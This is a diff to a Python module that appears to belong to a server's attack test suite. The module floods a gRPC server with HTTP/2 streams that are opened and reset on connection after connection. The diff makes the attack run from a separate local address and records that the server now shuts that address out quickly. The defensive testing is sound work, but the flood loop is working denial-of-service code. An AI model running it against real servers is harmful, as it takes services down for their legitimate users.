@@ -13,6 +13,8 @@ from attacks.http2 import RST_STREAM, call, connected, frame
 
 # What gRPC takes of one connection before it refuses the next one.
 _CALLS = 2048
+# Another address than the honest caller's.
+_SOURCE = "127.0.0.2"
 
 
 def _strike(target: Target, begin: Begin) -> Counts:
@@ -24,7 +26,7 @@ def _strike(target: Target, begin: Begin) -> Counts:
     connections = 0
     until = begin()
     while time.monotonic() < until:
-        with suppress(OSError), connected(target.place) as connection:
+        with suppress(OSError), connected(target.place, source=_SOURCE) as connection:
             connection.sendall(frames)
             connections += 1
             # Until the server has read them: a connection that is closed before brings none.
@@ -32,9 +34,9 @@ def _strike(target: Target, begin: Begin) -> Counts:
     return {"connections": connections, "resets": connections * _CALLS}
 
 
-# An honest caller got no answer within 20 s while 87 connections came in 3 s, and the server took
-# 3,007 MiB, 686 since fewer calls may wait in gRPC (docs/decisions/calls-wait-without-a-thread.md).
-ATTACK = Attack("resets on one connection after another", _strike)
+# The attacker's address is shut out after a second at most; what it brought until then delays the
+# honest caller for another second or two (docs/decisions/calls-wait-without-a-thread.md).
+ATTACK = Attack("resets on one connection after another", _strike, long_seconds=20.0)
 
 if __name__ == "__main__":
     sys.exit(main(ATTACK))
